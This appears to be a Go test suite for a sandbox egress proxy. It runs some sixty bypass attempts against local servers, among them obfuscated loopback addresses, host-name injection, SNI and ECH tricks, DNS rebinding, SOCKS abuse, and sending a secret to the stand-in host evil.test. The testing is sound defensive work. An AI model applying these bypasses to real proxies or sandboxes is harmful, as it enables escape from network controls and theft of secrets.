package egress_test

import (
	"bytes"
	"context"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/skills-mcp/skills-mcp/sandbox/egress"
)

const (
	// marker is what only reaches a program that has got where it may not, and
	// theValue what none may know.
	marker         = "MARKER"
	theValue       = "value-3f9c2b7a"
	thePlaceholder = "holder-0a1b2c3d"
)

// world is what an attack is made in. What is at 127.0.0.1 stands for the world's
// servers, 127.0.0.2 for what only this machine is to reach.
type world struct {
	resolver *names
	// secure and plain serve allowed.test, and as a content network does every
	// other name too, with the marker. evil serves the marker at the same address,
	// and inside at the other. Both have an ordinary neighbour at same.
	secure, plain, evil, evilSecure, inside int
	// hidden and retry speak TLS in ways that name a host twice, the former to who
	// has its configs.
	hidden, retry int
	configs       []byte
	proxy         string
	trust         *egress.Proxy // nil with the naive proxy
	// revoke takes back what was granted, and other is another run for which
	// evil.test is granted.
	revoke func()
	other  func() string
}

func newWorld(t *testing.T) *world {
	t.Helper()
	front := func(w http.ResponseWriter, r *http.Request) {
		text := "front"
		if name, _, _ := strings.Cut(r.Host, ":"); name != "allowed.test" || r.TLS != nil && r.TLS.ServerName != "allowed.test" {
			text = marker
		}
		if strings.Contains(fmt.Sprint(r.Header), theValue) && r.TLS == nil {
			text = marker
		}
		switch r.URL.Path {
		case "/redirect":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
		case "/echo":
			_, _ = fmt.Fprint(w, r.Header)
		default:
			_, _ = w.Write([]byte(text))
		}
	}
	evil := func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/value" && !strings.Contains(fmt.Sprint(r.Header), theValue) {
			return
		}
		_, _ = w.Write([]byte(marker))
	}
	w := &world{resolver: &names{}}
	w.secure, w.plain = serve(t, "127.0.0.1", true, front), serve(t, "127.0.0.1", false, front)
	w.evil, w.evilSecure = serve(t, "127.0.0.1", false, evil), serve(t, "127.0.0.1", true, evil)
	w.inside = neighbours(t, evil)
	w.hidden, w.configs = serveHidden(t)
	retry := listen(t, "127.0.0.1")
	w.retry = portOf(retry)
	go serveRetry(retry)
	w.resolver.set("allowed.test", "127.0.0.1")
	w.resolver.set("evil.test", "127.0.0.1")
	w.resolver.set("evilallowed.test", "127.0.0.1")
	w.resolver.set("allowed.test.evil.test", "127.0.0.1")
	return w
}

// neighbours serves the marker at 127.0.0.2, and something else at the same port of
// 127.0.0.1.
func neighbours(t *testing.T, evil http.HandlerFunc) int {
	t.Helper()
	for range 20 {
		inside := listen(t, "127.0.0.2")
		outside, err := net.Listen("tcp", at("127.0.0.1", portOf(inside)))
		if err != nil {
			continue
		}
		for listener, handler := range map[net.Listener]http.HandlerFunc{inside: evil, outside: hello} {
			server := httptest.NewUnstartedServer(handler)
			_ = server.Listener.Close()
			server.Listener = listener
			server.Start()
			t.Cleanup(server.Close)
		}
		return portOf(inside)
	}
	t.Fatal("no port is free at two addresses")
	return 0
}

// attack is one attempt to get more than was granted. run returns all that the
// program has got.
type attack struct {
	name string
	// naive is the faulty proxy that this succeeds against.
	naive naive
	// rules are granted, besides allowed.test over TLS and, at another port,
	// without; and so are names for secret.
	rules  func(w *world) []string
	secret bool
	run    func(t *testing.T, w *world) string
	// reason is why it is refused; empty where it is no refusal that stops it.
	reason egress.Reason
}

// ofNames is the naive proxy that judges names by their ends.
var ofNames = naive{allowed: []string{"allowed.test"}}

// ofAddresses is the one that knows in which form the machine's own are written.
var ofAddresses = naive{denied: []string{"127.0.0.1", "127.0.0.2", "localhost", "evil.test"}}

func connectTo(target func(w *world) string) func(*testing.T, *world) string {
	return func(t *testing.T, w *world) string {
		c, err := connect(t, w.proxy, target(w))
		if err != nil {
			return err.Error()
		}
		return speakHTTP(t, c, "/", "evil.test")
	}
}

func socksTo(command, kind byte, address func(w *world) []byte, port func(w *world) int) func(*testing.T, *world) string {
	return func(t *testing.T, w *world) string {
		c, err := socks(t, w.proxy, command, kind, address(w), port(w))
		if err != nil {
			return err.Error()
		}
		return speakHTTP(t, c, "/", "evil.test")
	}
}

func toEvil(w *world) int   { return w.evil }
func toInside(w *world) int { return w.inside }

// literals are ways to write 127.0.0.2 that a list of addresses has not.
var literals = map[string]string{
	"decimal":             "2130706434",
	"hexadecimal":         "0x7f000002",
	"hexadecimal, dotted": "0x7f.0x0.0x0.0x2",
	"octal":               "0177.0.0.2",
	"two parts":           "127.2",
	"three parts":         "127.0.2",
	"mixed":               "0x7f.2",
	"mapped":              "[::ffff:127.0.0.2]",
	"mapped, hexadecimal": "[::ffff:7f00:2]",
	"compatible":          "[::127.0.0.2]",
	"written out":         "[0:0:0:0:0:ffff:127.0.0.2]",
	"dot at the end":      "127.0.0.2.",
}

func literalAttacks() []attack {
	var attacks []attack
	for name, literal := range literals {
		attacks = append(attacks, attack{
			name: "address, " + name, naive: ofAddresses, reason: egress.InvalidHost,
			run: connectTo(func(w *world) string { return fmt.Sprintf("%s:%d", literal, w.inside) }),
		})
	}
	return attacks
}

func connectAttacks() []attack {
	return []attack{
		{name: "a name that is not granted", naive: naive{}, reason: egress.NotGranted,
			run: connectTo(func(w *world) string { return at("evil.test", w.evil) })},
		{name: "a name that ends alike", naive: ofNames, reason: egress.NotGranted,
			run: connectTo(func(w *world) string { return at("evilallowed.test", w.evil) })},
		{name: "a name that begins alike", naive: ofNames, reason: egress.NotGranted,
			run: connectTo(func(w *world) string { return at("allowed.test.evil.test", w.evil) })},
		{name: "another port", naive: ofNames, reason: egress.NotGranted,
			run: connectTo(func(w *world) string { return at("allowed.test", w.evil) })},
		{name: "a port beyond all ports", naive: ofNames, reason: egress.InvalidHost,
			run: connectTo(func(w *world) string { return at("allowed.test", w.evil+65536) })},
		{name: "a port inside of a name", naive: ofNames,
			run: connectTo(func(w *world) string { return fmt.Sprintf("evil.test:%d.allowed.test:443", w.evil) })},
		{name: "a name with NUL", naive: ofNames,
			run: connectTo(func(w *world) string { return fmt.Sprintf("evil.test\x00.allowed.test:%d", w.evil) })},
		{name: "a name with a zone", naive: ofNames,
			run: connectTo(func(w *world) string { return fmt.Sprintf("evil.test%%lo.allowed.test:%d", w.evil) })},
		{name: "a dot after a name that is denied", naive: naive{denied: []string{"evil.test"}}, reason: egress.InvalidHost,
			run: connectTo(func(w *world) string { return at("evil.test.", w.evil) })},
		{name: "an address", naive: naive{denied: []string{"localhost"}}, reason: egress.InvalidHost,
			run: connectTo(func(w *world) string { return at("127.0.0.2", w.inside) })},
		{name: "no TLS where TLS is granted", naive: ofNames, reason: egress.NotTLS,
			rules: func(w *world) []string { return []string{at("allowed.test", w.evil)} },
			run:   connectTo(func(w *world) string { return at("allowed.test", w.evil) })},
		{name: "another host in a tunnel without TLS", naive: ofNames, reason: egress.WrongName,
			run: connectTo(func(w *world) string { return at("allowed.test", w.plain) })},
		{name: "another host behind the first request in a tunnel", naive: ofNames, reason: egress.WrongName,
			run: func(t *testing.T, w *world) string {
				c, err := connect(t, w.proxy, at("allowed.test", w.plain))
				if err != nil {
					return err.Error()
				}
				fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", w.plain)
				return speakHTTP(t, c, "/", "evil.test")
			}},
	}
}

func tlsAttacks() []attack {
	overTLS := func(config func(t *testing.T) *tls.Config, host string) func(*testing.T, *world) string {
		return func(t *testing.T, w *world) string {
			c, err := connect(t, w.proxy, at("allowed.test", w.secure))
			if err != nil {
				return err.Error()
			}
			return speakTLS(t, c, config(t), host)
		}
	}
	return []attack{
		{name: "TLS to another name", naive: ofNames, reason: egress.WrongName,
			run: overTLS(func(*testing.T) *tls.Config { return &tls.Config{ServerName: "evil.test"} }, "evil.test")},
		{name: "TLS to a name below", naive: ofNames, reason: egress.WrongName,
			run: overTLS(func(*testing.T) *tls.Config { return &tls.Config{ServerName: "x.allowed.test"} }, "evil.test")},
		{name: "TLS to no name", naive: ofNames, reason: egress.WrongName,
			run: overTLS(func(*testing.T) *tls.Config { return &tls.Config{} }, "evil.test")},
		{name: "TLS to a hidden name", naive: naive{allowed: []string{"allowed.test"}, wantSNI: true}, reason: egress.HiddenName,
			run: runHidden},
		{name: "TLS to another name at the second try", naive: naive{allowed: []string{"allowed.test"}, wantSNI: true}, reason: egress.WrongName,
			run: func(t *testing.T, w *world) string { return runRetry(t, w, false) }},
		{name: "TLS to another name behind the first", naive: naive{allowed: []string{"allowed.test"}, wantSNI: true}, reason: egress.WrongName,
			run: func(t *testing.T, w *world) string { return runRetry(t, w, true) }},
		{name: "another host in TLS that ends at the proxy", naive: ofNames, reason: egress.WrongName, secret: true,
			run: overTLS(func(*testing.T) *tls.Config { return &tls.Config{ServerName: "allowed.test"} }, "evil.test")},
		{name: "another host in HTTP/2 that ends at the proxy", naive: ofNames, reason: egress.WrongName, secret: true,
			run: func(t *testing.T, w *world) string {
				request, _ := http.NewRequest(http.MethodGet, "https://"+at("allowed.test", w.secure), nil)
				request.Host = "evil.test"
				_, body := do(t, client(t, w.proxy, w.trust), request)
				return body
			}},
		{name: "another name in TLS that ends at the proxy", naive: ofNames, reason: egress.WrongName, secret: true,
			run: overTLS(func(*testing.T) *tls.Config { return &tls.Config{ServerName: "evil.test"} }, "allowed.test")},
	}
}

func requestAttacks() []attack {
	raw := func(target func(w *world) string, host string) func(*testing.T, *world) string {
		return func(t *testing.T, w *world) string { return speakHTTP(t, dialRaw(t, w.proxy), target(w), host) }
	}
	return []attack{
		{name: "the URL of a host, the header of another", naive: ofNames, reason: egress.NotGranted,
			run: raw(func(w *world) string { return "http://" + at("evil.test", w.evil) + "/" }, "allowed.test")},
		{name: "the header of a host, the URL of another", naive: naive{},
			run: raw(func(w *world) string { return "http://" + at("allowed.test", w.plain) + "/" }, "evil.test")},
		{name: "a host as user", naive: ofNames, reason: egress.NotGranted,
			run: raw(func(w *world) string { return "http://allowed.test@" + at("evil.test", w.evil) + "/" }, "allowed.test")},
		{name: "a host as password", naive: ofNames, reason: egress.NotGranted,
			run: raw(func(w *world) string { return "http://a:allowed.test@" + at("evil.test", w.evil) + "/" }, "allowed.test")},
		{name: "https without CONNECT", naive: ofNames, reason: egress.NotGranted,
			run: raw(func(w *world) string { return "https://" + at("evil.test", w.evilSecure) + "/" }, "allowed.test")},
		{name: "no TLS to what is granted with TLS", naive: ofNames, reason: egress.NotGranted,
			rules: func(w *world) []string { return []string{at("allowed.test", w.evil)} },
			run:   raw(func(w *world) string { return "http://" + at("allowed.test", w.evil) + "/" }, "allowed.test")},
		{name: "an address in a URL", naive: naive{allowed: []string{"allowed.test"}}, reason: egress.InvalidHost,
			run: raw(func(w *world) string { return "http://" + at("127.0.0.2", w.inside) + "/" }, "allowed.test")},
		{name: "a mapped address in a URL", naive: naive{allowed: []string{"allowed.test"}}, reason: egress.InvalidHost,
			run: raw(func(w *world) string { return "http://" + at("::ffff:127.0.0.2", w.inside) + "/" }, "allowed.test")},
		{name: "a request to the proxy itself", naive: naive{}, reason: egress.BadRequest,
			run: func(t *testing.T, w *world) string {
				return speakHTTP(t, dialRaw(t, w.proxy), "/", at("evil.test", w.evil))
			}},
		{name: "the second request of a connection", naive: ofNames, reason: egress.NotGranted,
			run: func(t *testing.T, w *world) string {
				c := dialRaw(t, w.proxy)
				fmt.Fprintf(c, "GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", w.plain, w.plain)
				_, _ = c.Read(make([]byte, 1))
				return speakHTTP(t, c, "http://"+at("evil.test", w.evil)+"/", at("evil.test", w.evil))
			}},
		{name: "a redirect", naive: ofNames,
			run: raw(func(w *world) string {
				return fmt.Sprintf("http://allowed.test:%d/redirect?to=http://evil.test:%d/", w.plain, w.evil)
			}, "allowed.test")},
		{name: "a redirect to this machine", naive: ofNames,
			run: raw(func(w *world) string {
				return fmt.Sprintf("http://allowed.test:%d/redirect?to=http://127.0.0.2:%d/", w.plain, w.inside)
			}, "allowed.test")},
	}
}

func resolverAttacks() []attack {
	inside := func(w *world) []string { return []string{"http://" + at("inside.test", w.inside)} }
	request := func(answers ...string) func(t *testing.T, w *world) string {
		return func(t *testing.T, w *world) string {
			w.resolver.set("inside.test", answers...)
			return speakHTTP(t, dialRaw(t, w.proxy), "http://"+at("inside.test", w.inside)+"/", at("inside.test", w.inside))
		}
	}
	public := naive{judge: func(addresses []netip.Addr) bool { return addresses[0] == netip.MustParseAddr("127.0.0.1") }}
	listed := naive{judge: func(addresses []netip.Addr) bool { return addresses[0] != netip.MustParseAddr("127.0.0.2") }}
	return []attack{
		{name: "a name of this machine", naive: naive{}, rules: inside, run: request("127.0.0.2"), reason: egress.PrivateHost},
		{name: "a name with a mapped address", naive: listed, rules: inside, run: request("::ffff:127.0.0.2"), reason: egress.PrivateHost},
		{name: "a name that changes between check and use", naive: public, rules: inside, run: request("127.0.0.1", "127.0.0.2")},
		{name: "a name with an address of each kind", naive: public, rules: inside, run: request("127.0.0.1 127.0.0.2")},
		{name: "a name that changes for the second request", naive: naive{}, rules: inside,
			run: func(t *testing.T, w *world) string {
				_ = request("127.0.0.1")(t, w)
				return request("127.0.0.2")(t, w)
			}},
		{name: "a question to the resolver as a message", naive: naive{denied: []string{"message.evil.test"}}, reason: egress.NotGranted,
			run: func(t *testing.T, w *world) string {
				w.resolver.set("message.evil.test", "127.0.0.1")
				_, _ = connect(t, w.proxy, at("message.evil.test.", w.evil))
				_, _ = connect(t, w.proxy, at("message.evil.test", w.evil))
				if w.resolver.wasAsked("message") {
					return marker
				}
				return ""
			}},
		{name: "a question to the resolver by SOCKS", naive: ofNames, reason: egress.BadRequest,
			run: func(t *testing.T, w *world) string {
				_, _ = socks(t, w.proxy, 0xF0, 3, socksName("message.evil.test"), 0)
				if w.resolver.wasAsked("message") {
					return marker
				}
				return ""
			}},
	}
}

func socksAttacks() []attack {
	name := func(text string) func(*world) []byte { return func(*world) []byte { return socksName(text) } }
	bytesOf := func(ip string) func(*world) []byte {
		return func(*world) []byte { return netip.MustParseAddr(ip).AsSlice() }
	}
	return []attack{
		{name: "SOCKS to a name that is not granted", naive: naive{}, run: socksTo(1, 3, name("evil.test"), toEvil), reason: egress.NotGranted},
		{name: "SOCKS to another port", naive: ofNames, run: socksTo(1, 3, name("allowed.test"), toEvil), reason: egress.NotGranted},
		{name: "SOCKS to an address", naive: naive{}, run: socksTo(1, 1, bytesOf("127.0.0.2"), toInside), reason: egress.InvalidHost},
		{name: "SOCKS to a mapped address", naive: naive{}, run: socksTo(1, 4, bytesOf("::ffff:127.0.0.2"), toInside), reason: egress.InvalidHost},
		{name: "SOCKS to an address as a name", naive: naive{}, run: socksTo(1, 3, name("127.0.0.2"), toInside), reason: egress.InvalidHost},
		{name: "SOCKS to a name with NUL", naive: ofNames, run: socksTo(1, 3, name("evil.test\x00.allowed.test"), toEvil), reason: egress.InvalidHost},
		{name: "SOCKS to a name with a line's end", naive: ofNames, run: socksTo(1, 3, name("evil.test\r\n.allowed.test"), toEvil), reason: egress.InvalidHost},
		{name: "SOCKS to a name with a zone", naive: ofNames, run: socksTo(1, 3, name("evil.test%lo.allowed.test"), toEvil), reason: egress.InvalidHost},
		{name: "SOCKS to a name with a dot at its end", naive: naive{denied: []string{"evil.test"}}, run: socksTo(1, 3, name("evil.test."), toEvil), reason: egress.InvalidHost},
		{name: "SOCKS, and another host", naive: ofNames, run: socksTo(1, 3, name("allowed.test"), func(w *world) int { return w.plain }), reason: egress.WrongName},
		{name: "SOCKS 4", naive: naive{}, reason: egress.BadRequest,
			run: func(t *testing.T, w *world) string {
				c := dialRaw(t, w.proxy)
				_, _ = c.Write([]byte{4, 1, byte(w.inside >> 8), byte(w.inside), 127, 0, 0, 2, 0})
				if _, err := io.ReadFull(c, make([]byte, 8)); err != nil {
					return err.Error()
				}
				return speakHTTP(t, c, "/", "evil.test")
			}},
	}
}

func secretAttacks() []attack {
	send := func(target func(w *world) string) func(*testing.T, *world) string {
		return func(t *testing.T, w *world) string {
			request, err := http.NewRequest(http.MethodGet, target(w), nil)
			if err != nil {
				t.Fatal(err)
			}
			request.Header.Set("X-Api-Key", thePlaceholder)
			_, body := do(t, client(t, w.proxy, w.trust), request)
			return body
		}
	}
	faulty := naive{secrets: map[string]string{thePlaceholder: theValue}}
	return []attack{
		{name: "a secret to another host", naive: faulty, secret: true,
			rules: func(w *world) []string { return []string{"http://" + at("evil.test", w.evil)} },
			run:   send(func(w *world) string { return "http://" + at("evil.test", w.evil) + "/value" })},
		{name: "a secret without TLS", naive: faulty, secret: true,
			run: send(func(w *world) string { return "http://" + at("allowed.test", w.plain) })},
		{name: "a secret behind a redirect", naive: faulty, secret: true,
			rules: func(w *world) []string { return []string{"http://" + at("evil.test", w.evil)} },
			run: send(func(w *world) string {
				return fmt.Sprintf("http://allowed.test:%d/redirect?to=http://evil.test:%d/value", w.plain, w.evil)
			})},
		{name: "a secret that is sent back", naive: faulty, secret: true,
			run: func(t *testing.T, w *world) string {
				if w.trust == nil { // the naive one ends no TLS
					return send(func(w *world) string { return "http://" + at("allowed.test", w.plain) + "/echo" })(t, w)
				}
				got := send(func(w *world) string { return "https://" + at("allowed.test", w.secure) + "/echo" })(t, w)
				if !strings.Contains(got, thePlaceholder) {
					t.Errorf("the server got no secret: %s", got)
				}
				return got
			}},
	}
}

func sessionAttacks() []attack {
	evil := func(w *world) []string { return []string{"http://" + at("evil.test", w.evil)} }
	return []attack{
		{name: "a tunnel that is open when the grant is taken back", naive: ofNames,
			run: func(t *testing.T, w *world) string {
				c, err := connect(t, w.proxy, at("allowed.test", w.secure))
				if err != nil {
					return err.Error()
				}
				secured := tls.Client(c, &tls.Config{InsecureSkipVerify: true, ServerName: "allowed.test"})
				if err := secured.Handshake(); err != nil {
					return err.Error()
				}
				w.revoke()
				return speakHTTP(t, secured, "/", "evil.test")
			}},
		{name: "a connection that is open when the grant is taken back", naive: ofNames, rules: evil,
			run: func(t *testing.T, w *world) string {
				c := dialRaw(t, w.proxy)
				fmt.Fprintf(c, "GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", w.plain, w.plain)
				_, _ = c.Read(make([]byte, 1))
				w.revoke()
				return speakHTTP(t, c, "http://"+at("evil.test", w.evil)+"/", at("evil.test", w.evil))
			}},
		{name: "a new connection when the grant was taken back", naive: ofNames, rules: evil,
			run: func(t *testing.T, w *world) string {
				w.revoke()
				c, err := net.Dial("tcp", w.proxy)
				if err != nil {
					return err.Error()
				}
				defer c.Close()
				return speakHTTP(t, c, "http://"+at("evil.test", w.evil)+"/", "allowed.test")
			}},
		{name: "what another run is granted", naive: naive{}, reason: egress.NotGranted,
			run: func(t *testing.T, w *world) string {
				other := speakHTTP(t, dialRaw(t, w.other()), "http://"+at("evil.test", w.evil)+"/", at("evil.test", w.evil))
				if !strings.Contains(other, marker) {
					t.Errorf("the other run got %q", other)
				}
				return speakHTTP(t, dialRaw(t, w.proxy), "http://"+at("evil.test", w.evil)+"/", at("evil.test", w.evil))
			}},
	}
}

// TestAttacks: each attempt gets through a naive proxy, and not through ours, which
// has it in its account.
func TestAttacks(t *testing.T) {
	t.Parallel()
	all := [][]attack{connectAttacks(), literalAttacks(), tlsAttacks(), requestAttacks(), resolverAttacks(), socksAttacks(), secretAttacks(), sessionAttacks()}
	count := 0
	for _, attacks := range all {
		for _, a := range attacks {
			count++
			t.Run(a.name, func(t *testing.T) {
				t.Parallel()
				if got := a.run(t, a.naiveWorld(t)); !reached(got) {
					t.Errorf("the attack is none, since the naive proxy withstands it: %.500q", got)
				}
				w, s := a.world(t)
				if got := a.run(t, w); reached(got) {
					t.Errorf("reached: %.500q", got)
				}
				a.check(t, s)
			})
		}
	}
	if count < 60 {
		t.Errorf("%d attacks", count)
	}
}

func reached(got string) bool {
	return strings.Contains(got, marker) || strings.Contains(got, theValue)
}

func (a attack) naiveWorld(t *testing.T) *world {
	w, faulty := newWorld(t), a.naive
	faulty.resolver = w.resolver
	w.proxy = faulty.serve(t)
	w.revoke = func() {} // it looks at its list when a connection begins
	w.other = func() string { return w.proxy }
	return w
}

func (a attack) world(t *testing.T) (*world, *served) {
	w := newWorld(t)
	proxy := newProxy(t, egress.Options{Resolver: w.resolver})
	grant := egress.Grant{
		Rules: rules(t, at("allowed.test", w.secure), at("allowed.test", w.hidden), at("allowed.test", w.retry),
			"http://"+at("allowed.test", w.plain)),
		AllowPrivate: loopback,
	}
	if a.rules != nil {
		grant.Rules = append(grant.Rules, rules(t, a.rules(w)...)...)
	}
	if a.secret {
		grant.Secrets = []egress.Secret{{
			Name: "API_KEY", Placeholder: thePlaceholder, Hosts: rules(t, at("allowed.test", w.secure)),
			Value: func(context.Context) (string, error) { return theValue, nil },
		}}
	}
	s := open(t, proxy, grant)
	w.proxy, w.trust, w.revoke = s.address, proxy, s.Close
	w.other = func() string {
		return open(t, proxy, egress.Grant{Rules: rules(t, "http://"+at("evil.test", w.evil)), AllowPrivate: loopback}).address
	}
	return w, s
}

// check looks for the refusal in the account, once the session is over.
func (a attack) check(t *testing.T, s *served) {
	t.Helper()
	s.Close()
	refused := 0
	for _, usage := range s.Usage().Hosts {
		refused += usage.Refused
		if a.reason != "" && usage.Reason == a.reason {
			return
		}
	}
	if a.reason != "" {
		t.Errorf("usage = %+v, want one refused for %q", s.Usage(), a.reason)
	}
}

// runHidden has TLS encrypt the name (ECH), with a key that the server has.
func runHidden(t *testing.T, w *world) string {
	c, err := connect(t, w.proxy, at("allowed.test", w.hidden))
	if err != nil {
		return err.Error()
	}
	secured := tls.Client(c, &tls.Config{
		ServerName: "evil.test", RootCAs: newAuthority().pool, EncryptedClientHelloConfigList: w.configs, MinVersion: tls.VersionTLS13,
	})
	if err := secured.Handshake(); err != nil {
		return err.Error()
	}
	return speakHTTP(t, secured, "/", "evil.test")
}

// serveHidden serves the marker to who hides that it asks for evil.test. It returns
// the port, and what clients need of its key.
func serveHidden(t *testing.T) (port int, configs []byte) {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	config := echConfig(key.PublicKey().Bytes(), "allowed.test")
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.TLS.ServerName == "evil.test" {
			_, _ = w.Write([]byte(marker))
		}
	}))
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	server.TLS = &tls.Config{
		GetCertificate:           newAuthority().certify,
		EncryptedClientHelloKeys: []tls.EncryptedClientHelloKey{{Config: config, PrivateKey: key.Bytes()}},
	}
	server.StartTLS()
	t.Cleanup(server.Close)
	server.TLS.Certificates = nil
	configs = binary.BigEndian.AppendUint16(nil, uint16(len(config)))
	return portOf(server.Listener), append(configs, config...)
}

// echConfig is what a server publishes of its key (RFC 9849).
func echConfig(public []byte, name string) []byte {
	contents := []byte{1, 0, 0x20} // id, X25519
	contents = binary.BigEndian.AppendUint16(contents, uint16(len(public)))
	contents = append(contents, public...)
	contents = append(contents, 0, 4, 0, 1, 0, 1, 32, byte(len(name))) // HKDF-SHA256, AES-128-GCM
	contents = append(contents, name...)
	contents = append(contents, 0, 0)
	config := binary.BigEndian.AppendUint16([]byte{0xfe, 0x0d}, uint16(len(contents)))
	return append(config, contents...)
}

// runRetry has a server ask for a second ClientHello, and names another host in
// that: after the server asked, or at once.
func runRetry(t *testing.T, w *world, atOnce bool) string {
	c, err := connect(t, w.proxy, at("allowed.test", w.retry))
	if err != nil {
		return err.Error()
	}
	first, second := clientHello("allowed.test"), append([]byte{20, 3, 3, 0, 1, 1}, clientHello("evil.test")...)
	if atOnce {
		first, second = append(first, second...), nil
	}
	if _, err := c.Write(first); err != nil {
		return err.Error()
	}
	got := make([]byte, 1)
	if _, err := io.ReadFull(c, got); err != nil {
		return err.Error()
	}
	_, _ = c.Write(second)
	rest, _ := io.ReadAll(c)
	return string(rest)
}

// serveRetry is a server that goes by the second ClientHello.
func serveRetry(listener net.Listener) {
	c, err := listener.Accept()
	if err != nil {
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	readRecord := func() []byte {
		header := make([]byte, 5)
		if _, err := io.ReadFull(c, header); err != nil {
			return nil
		}
		body := make([]byte, binary.BigEndian.Uint16(header[3:]))
		_, _ = io.ReadFull(c, body)
		return append(header, body...)
	}
	readRecord()
	random := []byte("\xCF\x21\xAD\x74\xE5\x9A\x61\x11\xBE\x1D\x8C\x02\x1E\x65\xB8\x91\xC2\xA2\x11\x16\x7A\xBB\x8C\x5E\x07\x9E\x09\xE2\xC8\xA8\x33\x9C")
	retry := append([]byte{22, 3, 3, 0, 40, 2, 0, 0, 36, 3, 3}, random...)
	_, _ = c.Write(append(retry, 0, 0x13)) // as far as anybody looks
	readRecord()
	if bytes.Contains(readRecord(), []byte("evil.test")) {
		_, _ = io.WriteString(c, marker)
	}
}
